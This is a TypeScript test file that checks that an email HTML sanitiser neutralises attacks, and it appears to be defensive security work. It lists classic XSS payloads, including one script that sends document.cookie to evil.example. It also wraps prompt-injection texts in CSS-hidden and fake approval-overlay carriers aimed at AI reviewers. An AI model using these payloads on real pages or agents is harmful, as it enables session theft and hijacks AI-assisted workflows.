// @vitest-environment happy-dom
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { sanitiseEmailHtml } from './sanitise';

// happy-dom defines Node.prototype.nodeName as '' and overrides it in each subclass; browsers have
// one getter on Node.prototype that answers for every node. DOMPurify (to resist clobbering) reads
// nodeName through Node.prototype's getter, so under plain happy-dom it sees '' for every node,
// removes <body> first and returns the input UNSANITISED. Give happy-dom the browser's behaviour
// before the first sanitise call (the purifier is created lazily, caching the getter then).
Object.defineProperty(Node.prototype, 'nodeName', {
  configurable: true,
  get(this: Node): string {
    for (let proto = Object.getPrototypeOf(this) as object | null; proto && proto !== Node.prototype; proto = Object.getPrototypeOf(proto) as object | null) {
      const own = Object.getOwnPropertyDescriptor(proto, 'nodeName');
      if (own?.get) return own.get.call(this) as string;
    }
    return '';
  },
});

interface Injection {
  id: string;
  payload_text: string;
}

const repoRoot = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const SHARED_DIR = process.env.SHARED_DIR ?? path.resolve(repoRoot, '../shared');
const injections: Injection[] = readFileSync(path.join(SHARED_DIR, 'fixtures/injections/injections.jsonl'), 'utf8')
  .split('\n')
  .filter((line) => line.trim())
  .map((line) => JSON.parse(line) as Injection);

const escapeHtml = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/** Each payload planted where a sender can put it in an HTML email, each wrapping loaded with a vector. */
const wrappings: [name: string, wrap: (text: string) => string][] = [
  ['plain paragraph', (t) => `<p>${escapeHtml(t)}</p>`],
  ['raw (its own markup is parsed)', (t) => `<div>${t}</div>`],
  ['hidden with CSS', (t) => `<div style="display:none;font-size:0;color:#fff">${escapeHtml(t)}</div>`],
  ['inside a script', (t) => `<script>/* ${escapeHtml(t)} */ fetch('https://evil.example/'+document.cookie)</script><p>Hi</p>`],
  ['in a javascript: link', (t) => `<a href="javascript:alert(document.domain)">${escapeHtml(t)}</a>`],
  ['in a tracking image alt', (t) => `<img src="https://tracker.example/p.gif?u=1" alt="${escapeHtml(t)}" onerror="alert(1)">`],
  ['in an iframe srcdoc', (t) => `<iframe srcdoc="<script>parent.alert(1)</script>${escapeHtml(t)}"></iframe>`],
  ['in a form', (t) => `<form action="https://evil.example/"><input name="q" value="${escapeHtml(t)}"><button formaction="javascript:alert(1)">Go</button></form>`],
  ['in an svg', (t) => `<svg onload="alert(1)"><text>${escapeHtml(t)}</text></svg>`],
  ['in a style import', (t) => `<style>@import url(https://evil.example/x.css); /* ${escapeHtml(t)} */</style><p>x</p>`],
  ['with an overlay class', (t) => `<div class="fixed inset-0 z-50" id="cs-approve">${escapeHtml(t)}</div>`],
];

const CLASSIC_XSS = [
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="  JaVaScRiPt:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<svg onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="background-image:url(https://tracker.example/p.gif)">x</div>',
  '<table background="https://tracker.example/p.gif"><tr><td>x</td></tr></table>',
  '<img srcset="https://tracker.example/p.gif 1x" alt="pixel">',
  '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">',
  '<video poster="https://tracker.example/p.gif"><source src="https://evil.example/v.mp4"></video>',
  '<a href="/relative/path">relative</a>',
  '<template><script>alert(1)</script></template>',
  '<div id="__proto__" name="cookie">clobber</div>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
];

const FORBIDDEN_TAGS = new Set(['SCRIPT', 'STYLE', 'IFRAME', 'FRAME', 'OBJECT', 'EMBED', 'FORM', 'INPUT', 'BUTTON', 'LINK', 'META', 'BASE', 'SVG', 'MATH', 'TEMPLATE', 'NOSCRIPT', 'VIDEO', 'AUDIO', 'SOURCE']);
const URL_ATTRS = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc', 'background', 'poster', 'srcset'];

/** Sanitised output parsed inertly (a template's content loads nothing). */
function parse(html: string): DocumentFragment {
  const template = document.createElement('template');
  template.innerHTML = html;
  return template.content;
}

/** Parses the sanitised output back and asserts nothing in it can run, load or restyle the page. */
function expectInert(html: string): void {
  for (const el of Array.from(parse(html).querySelectorAll('*'))) {
    expect(FORBIDDEN_TAGS.has(el.tagName.toUpperCase()), `<${el.tagName}> survived in ${html}`).toBe(false);
    expect(el.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
    for (const attr of Array.from(el.attributes)) {
      expect(attr.name.toLowerCase().startsWith('on'), `${attr.name} survived in ${html}`).toBe(false);
      expect(['style', 'class', 'id', 'name'].includes(attr.name.toLowerCase()), `${attr.name} survived in ${html}`).toBe(false);
    }
    for (const name of URL_ATTRS) {
      const value = el.getAttribute(name);
      if (value === null) continue;
      expect(name, `${name}="${value}" survived in ${html}`).toBe('href');
      expect(value.trim()).toMatch(/^(https?:\/\/|mailto:|tel:)/i);
    }
    if (el.tagName === 'IMG') expect(el.hasAttribute('src')).toBe(false);
    if (el.tagName === 'A' && el.hasAttribute('href')) {
      expect(el.getAttribute('target')).toBe('_blank');
      expect(el.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    }
  }
  expect(html).not.toMatch(/<script|<style|<iframe|<svg|<math|javascript:|vbscript:|data:|@import|url\(/i);
}

describe('sanitiseEmailHtml', () => {
  it.each(CLASSIC_XSS)('leaves nothing executable of %s', (vector) => {
    expectInert(sanitiseEmailHtml(vector));
  });

  describe.each(wrappings)('prompt-injection payloads %s', (_name, wrap) => {
    it.each(injections.map((i) => [i.id, i.payload_text] as const))('%s is inert', (_id, text) => {
      expectInert(sanitiseEmailHtml(wrap(text)));
    });
  });

  it('makes text hidden with CSS visible to the reviewer', () => {
    const text = injections[0]?.payload_text ?? 'hidden';
    const out = sanitiseEmailHtml(`<div style="display:none">${escapeHtml(text)}</div>`);
    const host = parse(out);
    expect(host.textContent).toBe(text);
    expect(host.querySelector('[style]')).toBeNull();
  });

  it('blanks remote images and keeps their alt text', () => {
    const host = parse(sanitiseEmailHtml('<p>Hello<img src="https://tracker.example/open.gif?id=42" alt="Company logo" width="1" height="1"></p>'));
    const img = host.querySelector('img');
    expect(img?.hasAttribute('src')).toBe(false);
    expect(img?.getAttribute('alt')).toBe('Company logo');
  });

  it('keeps ordinary formatting and safe links, opening in a new tab without referrer', () => {
    const out = sanitiseEmailHtml('<p>Hi <b>Ana</b>,</p><ul><li>one</li></ul><a href="https://example.com/pricing">pricing</a> <a href="mailto:ana@example.com">mail</a>');
    const host = parse(out);
    expect(host.querySelector('b')?.textContent).toBe('Ana');
    expect(host.querySelector('li')?.textContent).toBe('one');
    const links = Array.from(host.querySelectorAll('a'));
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.com/pricing', 'mailto:ana@example.com']);
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    }
  });

  it('drops a link target the sender set and links to anywhere but the web or mail', () => {
    const host = parse(sanitiseEmailHtml('<a href="chrome-extension://abc/sidepanel.html" target="_top">x</a><a href="https://example.com" target="_self" rel="opener">y</a>'));
    const [first, second] = Array.from(host.querySelectorAll('a'));
    expect(first?.hasAttribute('href')).toBe(false);
    expect(first?.hasAttribute('target')).toBe(false);
    expect(second?.getAttribute('target')).toBe('_blank');
    expect(second?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
  });
});
